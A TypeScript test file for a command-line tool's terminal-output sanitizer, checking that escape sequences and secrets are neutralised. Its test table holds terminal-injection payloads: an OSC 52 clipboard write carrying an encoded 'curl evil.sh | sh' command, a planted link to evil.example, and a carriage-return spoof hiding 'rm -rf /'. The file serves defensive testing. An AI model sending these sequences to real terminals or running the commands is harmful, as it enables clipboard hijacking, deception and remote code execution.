import { PassThrough } from "node:stream";
import { describe, expect, it } from "vitest";
import { styleFor } from "./style.js";
import {
  isTerminalStream,
  printedWidth,
  terminalStream,
  terminalText,
  trustedSequence,
} from "./terminal-text.js";

const ESC = "\u001b";
// C0 but newline and tab, DEL, C1 and a bidi override: what must never reach a terminal raw.
const CONTROL = /(?![\n\t])[\p{Cc}\u202e]/u;
const BEL = "\u0007";
const ENV = { OPENAI_API_KEY: "sk-terminal-text-secret-0123456789" };

// The attacks, each as the bytes a hostile server or model would send.
const ATTACKS = {
  "OSC 52 (writes the clipboard)": `${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=${BEL}`,
  "OSC 0 (sets the window title)": `${ESC}]0;you have been pwned${BEL}`,
  "OSC 8 (plants a link)": `${ESC}]8;;https://evil.example/${ESC}\\click${ESC}]8;;${ESC}\\`,
  "CSI (clears the screen)": `${ESC}[2J${ESC}[H`,
  "SGR 8 (conceals text)": `${ESC}[8mhidden`,
  "C1 CSI (U+009B)": "\u009b2J",
  "carriage return (redraws the line)": "rm -rf /\rls -la    ",
  "bidi override": "\u202eexe.txt",
};

describe("terminalText: the one printer", () => {
  for (const [name, bytes] of Object.entries(ATTACKS)) {
    it(`shows ${name} as text, with no control character left`, () => {
      const shown = terminalText(`before ${bytes} after\n`, ENV);
      expect(shown).not.toMatch(CONTROL);
      expect(shown.startsWith("before ")).toBe(true);
      expect(shown.endsWith(" after\n")).toBe(true);
    });
  }

  it("turns the CLI's own tokens into their escape sequences and keeps newline and tab", () => {
    const text = `${trustedSequence("red")}✗ failed${trustedSequence("defaultColor")}\n\tnext`;
    expect(terminalText(text, ENV)).toBe(`${ESC}[31m✗ failed${ESC}[39m\n\tnext`);
  });

  it("a token with another key (a forged one) is printed as text", () => {
    const real = trustedSequence("clearLine");
    const forged = real.replace(/[0-9a-f]{24}/, "0".repeat(24));
    const shown = terminalText(`${forged}spoofed`, ENV);
    expect(shown).not.toContain(ESC);
    expect(shown).toContain("\\u0000");
  });

  it("scrubs the environment's secrets and credential shapes", () => {
    const shown = terminalText(`key ${ENV.OPENAI_API_KEY} and Bearer abcdefghijklmnop`, ENV);
    expect(shown).not.toContain(ENV.OPENAI_API_KEY);
    expect(shown).not.toContain("abcdefghijklmnop");
  });

  it("measures what is printed: tokens take no column, a control its escape", () => {
    expect(printedWidth(`${trustedSequence("bold")}ab${trustedSequence("normalIntensity")}`)).toBe(2);
    expect(printedWidth(`a${ESC}b`)).toBe(8);
  });
});

describe("terminalStream", () => {
  it("every write and end of a wrapped stream passes the printer, whatever writes it", () => {
    const raw = new PassThrough();
    const chunks: string[] = [];
    raw.on("data", (d: Buffer) => chunks.push(d.toString("utf8")));
    const stream = terminalStream(raw, ENV);
    stream.write(ATTACKS["OSC 52 (writes the clipboard)"]);
    stream.write(Buffer.from(`${ESC}]0;title${BEL}`));
    stream.end(`${ENV.OPENAI_API_KEY}\n`);
    const out = chunks.join("");
    expect(out).not.toContain(ESC);
    expect(out).not.toContain(ENV.OPENAI_API_KEY);
    expect(out).toContain("\\u001b]52;c;");
    expect(isTerminalStream(stream)).toBe(true);
    expect(terminalStream(stream, ENV)).toBe(stream);
  });

  it("a terminal's colors still arrive, and a model's colors do not", () => {
    const raw = Object.assign(new PassThrough(), { isTTY: true });
    const chunks: string[] = [];
    raw.on("data", (d: Buffer) => chunks.push(d.toString("utf8")));
    const stream = terminalStream(raw, {});
    const style = styleFor(stream, { TERM: "xterm-256color" });
    expect(style.color).toBe(true);
    stream.write(style.green(`✓ ${ESC}[31mmodel red`));
    expect(chunks.join("")).toBe(`${ESC}[32m✓ \\u001b[31mmodel red${ESC}[39m`);
  });
});
